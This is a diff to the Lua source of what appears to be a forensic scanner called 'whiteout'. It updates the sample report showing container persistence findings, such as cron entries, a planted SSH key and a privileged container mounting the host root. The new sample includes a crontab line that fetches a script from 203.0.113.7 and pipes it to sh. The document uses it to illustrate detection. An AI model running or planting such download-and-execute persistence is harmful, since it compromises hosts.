@@ -50,39 +50,32 @@ could reach the host and has findings.]],
 whiteout run persistence -e /mnt/host
 whiteout run persistence -e /mnt/host --arg host=all --format jsonl]],
   sample = report.unwrap [[
-$ whiteout run persistence -e host
-layer-cron (a690993a739f)
-  reach: none (listed for its own layer or logs)
-  WHERE    WHAT    PATH                        FROM          INUM      SIZE  TI\
-ME                      LIFE  SHA256
-  layer    cron    /etc/cron.d/job             c1c6076f6c0e  10995539  58    20\
-25-06-01 11:00:03.000Z  yes   619418be28479cda
-  layer    ssh     /root/.ssh/authorized_keys  c1c6076f6c0e  10995540  56    20\
-25-06-01 11:00:03.000Z  yes   fcbdd23e4f7d41af
-  layer    setuid  /usr/local/bin/tick         c1c6076f6c0e  10995541  12    20\
-25-06-01 11:00:03.000Z  yes   1b577383bcfb9f19
-  deleted  cron    /etc/cron.daily/old         c1c6076f6c0e  10995544        20\
-25-06-01 11:00:04.000Z  yes   -
-  --- /etc/cron.d/job  sha256 619418be28479cda510149013321da82d1f9f1df9f9398565\
-35044a48a1b4b79
-    */5 * * * * root /usr/local/bin/tick # FIXTURE-LAYER-CRON
-  --- /root/.ssh/authorized_keys  sha256 fcbdd23e4f7d41af786ff497ebdfe9c108b5d2\
-8beb657f42c2287326e4be2978
-    ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFIXTURE attacker@x
-  --- /usr/local/bin/tick  sha256 1b577383bcfb9f191c785497f4ac34a8fb546807bd109\
-4ef65d0ce9a5a63423e
-    #!/bin/true
+$ whiteout run persistence -e build/sample-host
+intruder (55819102b216) exited, created 2026-12-01 09:14:05.123Z
+  reach: binds the host's / at /host (read-write); privileged; adds capability \
+SYS_ADMIN
+  WHERE  WHAT  PATH                     FROM                INUM      SIZE  TIM\
+E                      LIFE  SHA256
+  host   cron  /host/etc/cron.d/sample  /etc/cron.d/sample  11053112  8     202\
+6-12-01 09:14:09.700Z  yes   60f97c7b5bf55c5f
+  layer  cron  /etc/crontabs/root       73f5bdf65a49        11059419  53    202\
+6-12-01 09:14:09.000Z  yes   fe249d9366ad2fd1
+  --- /host/etc/cron.d/sample  sha256 60f97c7b5bf55c5f186c5d1c79c8e3b6929c83bf2\
+766434df9f1e1b9069db73a
+    planted
+  --- /etc/crontabs/root  sha256 fe249d9366ad2fd17469ddfdb580e5e84ffb5cf564f777\
+f29157da31fc018df7
+    */5 * * * * wget -q -O- http://203.0.113.7/x.sh | sh
 
-etc-binder (329cf4569742) exited, created 2025-06-01 10:00:00.000Z
-  reach: binds host /etc at /hostetc (read-write), reaching /etc/crontab /etc/a\
-nacrontab /etc/cron.d and 7 more cron places
-  WHERE  WHAT  PATH                     FROM                 INUM      SIZE  TI\
-ME                      LIFE  SHA256
-  host   cron  /hostetc/cron.d/planted  /etc/cron.d/planted  10995480  43    20\
-25-06-01 10:00:02.000Z  yes   10e56e8127fe86ff
-  --- /hostetc/cron.d/planted  sha256 10e56e8127fe86ff6ec59792a69541d237337cd0d\
-28e1e6992ab2cc1e6632105
-    * * * * * root /tmp/.p # FIXTURE-HOST-CRON
+cron-only (dfca8be5c60b)
+  reach: none (listed for its own layer or logs)
+  WHERE  WHAT  PATH                FROM          INUM      SIZE  TIME          \
+            LIFE  SHA256
+  layer  cron  /etc/cron.d/backup  e3b20575a687  11059521  37    2026-12-01 09:\
+08:00.500Z  yes   40bc0ce5f73f1f85
+  --- /etc/cron.d/backup  sha256 40bc0ce5f73f1f85e17cf4234671834c0e18ca12360adf\
+61cddec140b9274b9e
+    0 * * * * root /usr/local/bin/backup
 ]],
   applies = function(ev) return #ev.roots > 0 end,
   run = run,
